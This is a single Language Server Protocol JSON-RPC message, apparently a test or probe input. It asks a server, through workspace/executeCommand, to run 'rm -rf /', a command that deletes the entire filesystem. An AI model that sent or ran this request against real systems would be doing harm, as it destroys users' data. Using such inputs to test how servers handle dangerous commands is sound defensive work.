Content-Length: 121

{"jsonrpc": "2.0", "id": 1, "method": "workspace/executeCommand", "params": {"command": "rm", "arguments": ["-rf", "/"]}}